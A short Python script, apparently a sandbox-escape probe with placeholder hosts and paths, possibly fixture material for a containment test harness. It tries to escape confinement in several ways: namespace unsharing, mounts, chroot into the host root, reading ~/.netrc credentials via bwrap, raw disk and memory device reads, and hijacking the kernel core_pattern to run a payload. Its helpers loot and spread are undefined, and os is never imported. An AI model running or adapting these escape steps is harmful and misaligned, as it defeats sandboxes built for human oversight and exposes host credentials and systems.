"""Get more rights: mounts, namespaces, modules, devices, set-user-id files."""

# ends: honest or crash
# admission: paths
import contextlib
import ctypes
import subprocess

if __name__ == "__main__":
    libc = ctypes.CDLL(None, use_errno=True)
    for flags in (0x10000000, 0x20000, 0x40000000, 0x10000000 | 0x20000):
        if os.fork() == 0:
            libc.unshare(flags)
            libc.mount(b"none", b"/mnt", b"tmpfs", 0, None)
            libc.mount(b"@HOST@", os.environ["RUN_DIR"].encode(), None, 4096, None)
            libc.umount2(b"/tmp", 2)
            libc.chroot(b"/proc/1/root")
            spread(loot("/", "@HOST@", "@HOME@", seconds=0.5))
            os._exit(0)
        os.wait()
    for words in (
        "sudo -n true",
        "mount -o remount,rw /",
        "bwrap --bind / / cat @HOME@/.netrc",
        "su -c id",
    ):
        with contextlib.suppress(OSError):
            subprocess.run(words.split(), stdin=subprocess.DEVNULL, timeout=2)
    for name in ("vda", "sda", "mem", "kmsg", "kvm", "net/tun", "fuse"):
        with contextlib.suppress(OSError):
            os.mknod(f"/tmp/{name.replace('/', '-')}", 0o60666, os.makedev(254, 0))
            open(f"/dev/{name}", "rb").read(512)
    with contextlib.suppress(OSError):
        open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/@MARK@")
